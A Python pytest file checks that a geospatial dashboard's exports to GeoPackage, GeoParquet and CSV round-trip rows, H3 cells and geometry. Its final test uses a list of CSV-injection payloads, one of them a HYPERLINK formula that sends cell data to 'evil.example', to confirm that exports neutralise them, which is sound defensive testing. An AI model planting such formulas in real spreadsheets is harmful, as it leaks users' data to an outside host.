"""Exports to GeoPackage, GeoParquet and CSV read back with the same rows, values and geometry."""

from __future__ import annotations

from pathlib import Path

import geopandas as gpd
import h3
import numpy as np
import pandas as pd
import pytest
import shapely

from dashboard.cli import main
from geo import export, store
from geo.errors import ConfigError
from layers.registry import get_spec


def _expected(frame: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    """What an export promises: H3 cells as hex strings, timestamps to the second."""
    out = frame.copy()
    for col in out.columns:
        if col.startswith("h3_r"):
            out[col] = [h3.int_to_str(int(c)) for c in out[col]]
        elif pd.api.types.is_datetime64_any_dtype(out[col]):
            out[col] = out[col].dt.floor("s")
    return out


def _assert_same(back: pd.DataFrame, expected: gpd.GeoDataFrame) -> None:
    assert len(back) == len(expected)
    back = back.set_index("id").loc[expected["id"]].reset_index()
    assert list(back.columns) == list(expected.columns)
    pd.testing.assert_frame_equal(
        pd.DataFrame(back.drop(columns="geometry")).astype(object).where(back.drop(columns="geometry").notna(), None),
        pd.DataFrame(expected.drop(columns="geometry")).astype(object).where(expected.drop(columns="geometry").notna(), None),
        check_dtype=False,
    )
    assert back.geometry.geom_equals_exact(expected.geometry.reset_index(drop=True), tolerance=0).all()


@pytest.fixture(scope="module")
def layers_with_rows(demo_db: Path) -> dict[str, int]:
    con = store.connect(demo_db)
    counts = {k: v for k, v in store.table_counts(con).items() if v}
    con.close()
    assert {"grid", "hydrant", "hazard", "admin_area"} <= set(counts)
    return counts


@pytest.mark.parametrize("suffix", ["gpkg", "parquet", "csv"])
def test_every_layer_round_trips(demo_db: Path, tmp_path: Path, suffix: str, layers_with_rows: dict[str, int]) -> None:
    con = store.connect(demo_db)
    for layer, n in layers_with_rows.items():
        path, rows = export.export_layer(con, layer, tmp_path / f"{layer}.{suffix}")
        assert rows == n
        back = export.read_export(path, layer=layer)
        _assert_same(back, _expected(store.read_layer(con, layer)))
    con.close()


def test_csv_is_utf8_with_bom_and_chinese_headers(demo_db: Path, tmp_path: Path) -> None:
    con = store.connect(demo_db)
    path, n = export.export_layer(con, "hazard", tmp_path / "hazard.csv", zh=True)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    header = raw[3:].decode("utf-8").splitlines()[0].split(",")
    spec = get_spec("hazard")
    assert header[:4] == ["编号", "隐患类别", "隐患等级", "状态"]
    assert "经度" in header and "纬度" in header and "H3(9级)" in header
    text = raw.decode("utf-8-sig")
    # Chinese values are kept as they are, one line per hazard.
    categories = con.execute("SELECT DISTINCT category FROM hazard").df()["category"]
    assert all(c in text for c in categories)
    assert len(pd.read_csv(path, encoding="utf-8-sig")) == n
    back = export.read_export(path, layer="hazard")
    assert list(back.columns[:3]) == ["id", "category", "severity"] and spec.field_names[0] == "id"
    _assert_same(back, _expected(store.read_layer(con, "hazard")))
    con.close()


def test_polygons_go_to_csv_as_full_precision_wkt(demo_db: Path, tmp_path: Path) -> None:
    con = store.connect(demo_db)
    path, _ = export.export_layer(con, "grid", tmp_path / "grid.csv")
    table = pd.read_csv(path, encoding="utf-8-sig")
    assert table["wkt"].str.startswith(("POLYGON", "MULTIPOLYGON")).all()
    with pytest.raises(ConfigError, match="needs point geometries"):
        export.export_layer(con, "grid", tmp_path / "grid2.csv", csv_geometry="lonlat")
    con.close()


def test_hotspot_result_round_trips_as_hexagons(demo_db: Path, tmp_path: Path) -> None:
    con = store.connect(demo_db)
    table = export.compute_result(con, "hotspots")
    for suffix in ("gpkg", "csv", "parquet"):
        path, rows = export.export_any(con, "hotspots", tmp_path / f"hs.{suffix}")
        assert rows == len(table)
        back = export.read_export(path)
        assert list(back["cell"]) == [h3.int_to_str(int(c)) for c in table["cell"]]
        np.testing.assert_array_equal(back["count"].to_numpy(), table["count"].to_numpy())
        np.testing.assert_allclose(back["z"].to_numpy(dtype=float), table["z"].to_numpy(dtype=float))
        # each row is the hexagon of its cell
        for geom, cell in zip(back.geometry[:20], back["cell"][:20], strict=True):
            lat, lon = h3.cell_to_latlng(cell)
            assert geom.contains(shapely.Point(lon, lat))
            assert len(geom.exterior.coords) == len(h3.cell_to_boundary(cell)) + 1
    con.close()


def test_filtered_layer_export_and_cli(demo_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    con = store.connect(demo_db)
    town, n_town = con.execute(
        "SELECT town, count(*) FROM hazard WHERE town IS NOT NULL GROUP BY 1 ORDER BY 2 DESC LIMIT 1").fetchone()
    con.close()
    out = tmp_path / "town.gpkg"
    main(["export", "hazard", "--db", str(demo_db), "--out", str(out), "--town", town])
    assert f"{n_town:,} rows" in capsys.readouterr().out
    back = export.read_export(out, layer="hazard")
    assert len(back) == n_town and set(back["town"]) == {town}
    main(["export", "grid", "--db", str(demo_db), "--out", str(tmp_path / "g.csv"), "--zh", "--json"])
    assert '"rows"' in capsys.readouterr().out


def test_clear_errors(demo_db: Path, tmp_path: Path) -> None:
    con = store.connect(demo_db)
    with pytest.raises(ConfigError, match=r"unknown suffix '\.xlsx'"):
        export.export_layer(con, "hydrant", tmp_path / "h.xlsx")
    with pytest.raises(ConfigError, match="unknown result 'nope'.*hotspots.*layers: admin_area"):
        export.export_any(con, "nope", tmp_path / "x.csv")
    with pytest.raises(ConfigError, match="GeoPackage needs geometry"):
        export.export_frame(pd.DataFrame({"a": [1]}), tmp_path / "t.gpkg")
    con.close()


def test_hex_conversion_matches_h3() -> None:
    cells = np.array([h3.str_to_int(h3.latlng_to_cell(31.0 + i / 100, 121.2, r)) for i in range(5) for r in (7, 10)],
                     dtype=np.uint64)
    hexes = export.h3_to_hex(np.append(cells, np.uint64(0)))
    assert list(hexes[:-1]) == [h3.int_to_str(int(c)) for c in cells] and hexes[-1] == ""
    np.testing.assert_array_equal(export.hex_to_h3(hexes), np.append(cells, np.uint64(0)))


# Cells Excel/WPS would run as a formula (OWASP CSV injection: = + - @ tab CR), cells that
# start with the quote used to neutralise them, and harmless text.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "=", "-", "'already quoted", "''two quotes", "a=b", "普通名称"]


def _formula_cells(path: Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would evaluate: a formula start, and not a plain number."""
    import csv

    with open(path, encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    bad = []
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            try:
                float(cell)
            except ValueError:
                bad.append(cell)
    return bad


def test_csv_export_neutralises_formulas_and_round_trips(copy_demo_db: Path, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    with store.writer(copy_demo_db) as con:
        ids = [i for (i,) in con.execute("SELECT id FROM hydrant ORDER BY id LIMIT ?", [len(FORMULAS)]).fetchall()]
        for k, (hydrant_id, text) in enumerate(zip(ids, FORMULAS, strict=True)):
            con.execute("UPDATE hydrant SET name = ?, remark = ?, pressure_mpa = ? WHERE id = ?",
                        [text, text, -0.25 - k, hydrant_id])
        towns = [t for (t,) in con.execute("SELECT DISTINCT town FROM hazard WHERE town IS NOT NULL ORDER BY 1")
                 .fetchall()]
        for k, town in enumerate(towns):
            con.execute("UPDATE hazard SET town = ? WHERE town = ?", [f"{FORMULAS[k % len(FORMULAS)]}{k}", town])
    db = str(copy_demo_db)
    for args, out in ((["hydrant"], "h.csv"), (["hydrant", "--zh"], "h_zh.csv"),
                      (["recurring_places"], "r.csv"), (["hotspots"], "hs.csv")):
        main(["export", *args, "--db", db, "--out", str(tmp_path / out)])
        assert _formula_cells(tmp_path / out) == [], out
    capsys.readouterr()
    (tmp_path / "mem.csv").write_text(export.csv_text(pd.DataFrame({"name": FORMULAS, "v": -1.5})),
                                      encoding="utf-8", newline="")  # the dashboard's in-memory CSV
    assert _formula_cells(tmp_path / "mem.csv") == []
    assert list(export.read_export(tmp_path / "mem.csv")["name"]) == FORMULAS
    con = store.connect(copy_demo_db)
    try:
        stored = _expected(store.read_layer(con, "hydrant"))
        for out in ("h.csv", "h_zh.csv"):  # every text back as it was, negative numbers as numbers
            _assert_same(export.read_export(tmp_path / out, layer="hydrant"), stored)
        raw = pd.read_csv(tmp_path / "h.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
        assert "-0.25" in set(raw["pressure_mpa"]) and "-2+3" not in set(raw["name"])
        recurring = export.compute_result(con, "recurring_places")
        back = export.read_export(tmp_path / "r.csv")
        assert back["town"].tolist() == recurring["town"].tolist()
        assert any(t.startswith(("=", "+", "-", "@", "'")) for t in back["town"])
        hotspots = export.compute_result(con, "hotspots")
        back = export.read_export(tmp_path / "hs.csv")
        assert (hotspots["z"] < 0).any()
        np.testing.assert_allclose(back["z"].to_numpy(dtype=float), hotspots["z"].to_numpy(dtype=float))
    finally:
        con.close()
